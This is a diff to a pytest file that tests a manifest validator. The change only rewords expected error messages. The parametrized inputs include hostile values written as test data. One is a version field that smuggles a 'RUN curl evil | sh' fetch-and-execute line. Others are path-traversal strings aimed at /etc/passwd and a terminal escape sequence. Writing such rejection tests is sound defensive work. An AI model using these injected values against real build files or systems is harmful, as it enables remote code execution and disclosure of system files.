@@ -38,7 +38,7 @@ def test_a_sound_manifest_is_read(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     ("changed", "says"),
     [
-        ({"target": {**TARGET, "python": "3.13\nRUN curl evil | sh"}}, "no version of Python"),
+        ({"target": {**TARGET, "python": "3.13\nRUN curl evil | sh"}}, "not a version of Python"),
         ({"target": {**TARGET, "architecture": "../x"}}, "architecture = '../x': one of x86_64, arm64"),
         ({"target": {**TARGET, "package": "zip"}}, "package = 'zip': one of image, layer"),
         ({"target": None}, "damaged"),
@@ -50,8 +50,8 @@ def test_a_sound_manifest_is_read(tmp_path: Path) -> None:
         ({"models": [{**MODEL, "sources": [{**SOURCE, "repo": "../../x"}]}]}, "is not a repository id"),
         ({"models": [{**MODEL, "sources": [{**SOURCE, "revision": "../../x"}]}]}, "is not a commit"),
         ({"models": [{**MODEL, "sources": [{**SOURCE, "license": "\x1b]0;x"}]}]}, "cannot be printed"),
-        ({"files": [{**FILE, "path": "../../../etc/passwd"}]}, "no relative path|no file name"),
-        ({"files": [{**FILE, "path": "/etc/passwd"}]}, "no relative path|no file name"),
+        ({"files": [{**FILE, "path": "../../../etc/passwd"}]}, "not a relative path|not a file name"),
+        ({"files": [{**FILE, "path": "/etc/passwd"}]}, "not a relative path|not a file name"),
         ({"files": [{**FILE, "sha256": "x"}]}, "is not a sha256"),
         ({"files": [{**FILE, "size": -1}]}, "is not a size"),
         ({"files": [{**FILE, "size": 10**4000}]}, "is not a size"),
